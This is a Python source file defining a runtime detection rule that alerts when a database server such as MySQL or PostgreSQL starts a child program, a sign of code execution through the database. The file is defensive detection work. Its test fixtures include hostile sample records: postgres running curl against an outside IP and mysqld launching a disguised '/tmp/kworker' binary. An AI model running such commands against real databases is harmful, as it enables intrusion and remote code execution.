"""A database server starting another program: databases answer queries and run nothing, so a child is code
execution through the database (``COPY ... FROM PROGRAM``, a UDF, ``xp_cmdshell``-style extensions)."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

#: Database servers, by executable name (postgres forks its workers as ``postgres``; older ones as postmaster).
DATABASES = frozenset({
    "mysqld", "mariadbd", "mysqld_safe", "postgres", "postmaster", "mongod", "mongos", "redis-server",
    "valkey-server", "keydb-server", "memcached", "couchdb", "cassandra", "clickhouse-server", "influxd",
    "cockroach", "etcd", "neo4j", "sqlservr",
})
#: Shells below a database are runtime.shell_spawned_by_server's (high), which also knows their expected commands.
SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish"})


def database_parent(event: Event) -> str:
    parent = event.actor.parent_exe.rpartition("/")[2]
    return parent if parent in DATABASES else ""


def spawned_by_database(event: Event, params: dict[str, Any]) -> bool:
    program = program_name(event)
    if not database_parent(event) or program in DATABASES or program in SHELLS:
        return False
    return program not in params["allowed_programs"]


def spawn_context(event: Event, params: dict[str, Any]) -> dict[str, Any]:
    in_container = bool(event.container.id or event.k8s.container_id)
    return {"exe": event.actor.exe, "program": program_name(event), "database": database_parent(event),
            "command": " ".join(event.actor.args),
            "where": container_label(event) if in_container else f"node {event.node}", "node": event.node}


DETECTION = EventDetection(
    id="runtime.database_spawned_process",
    title="Database server started a program",
    alert_title="{database} started {program} in {where}",
    description=(
        "A database server (MySQL, MariaDB, PostgreSQL, MongoDB, Redis, …) started a program other than itself. "
        "Databases serve queries; a child process is code execution through the database: PostgreSQL's "
        "`COPY … FROM PROGRAM`, a malicious UDF or module (Redis MODULE LOAD), or an exploited server. Shells "
        "below a database are reported by runtime.shell_spawned_by_server; this reports every other program. "
        "Containers and nodes alike."
    ),
    severity="medium",
    mitre=["T1190", "T1059"],
    tags=["runtime", "execution", "initial_access"],
    references=["https://attack.mitre.org/techniques/T1190/",
                "https://www.postgresql.org/docs/current/sql-copy.html"],
    false_positives=["Backup or archive tools a database is configured to run directly (add them to "
                     "allowed_programs)."],
    kinds=["process.exec"],
    params={"allowed_programs": ["pg_ctl", "initdb", "pgbackrest", "wal-g", "wal-e", "pg_archivecleanup",
                                 "redis-check-rdb", "redis-check-aof"]},
    match=spawned_by_database,
    context=spawn_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{database}/{program}",
    examples=[
        Example(
            name="Falco: mysqld started a downloaded binary",
            source="falco",
            fires=True,
            record=falco_record(
                "DB program spawned process", "execve",
                {"proc.exepath": "/tmp/kworker", "proc.name": "kworker", "proc.cmdline": "kworker -o 45.9.148.99",
                 "proc.pexepath": "/usr/sbin/mysqld", "proc.pname": "mysqld"},
                priority="Notice",
            ),
        ),
        Example(
            name="postgres running curl for COPY FROM PROGRAM (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/curl", arguments="-s http://45.9.148.99/x",
                                   parent="/usr/lib/postgresql/16/bin/postgres"),
        ),
        Example(
            name="postgres forking its own workers",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/lib/postgresql/16/bin/postgres", arguments="-D /var/lib/pg",
                                   parent="/usr/lib/postgresql/16/bin/postgres"),
        ),
        Example(
            name="postgres running its WAL archiver through a shell (runtime.shell_spawned_by_server's)",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/bin/sh", arguments="-c wal-g wal-push pg_wal/0001",
                                   parent="/usr/lib/postgresql/16/bin/postgres"),
        ),
        Example(
            name="a program started by an application server, not a database",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/convert", arguments="in.png out.jpg", parent="/usr/bin/java"),
        ),
    ],
)
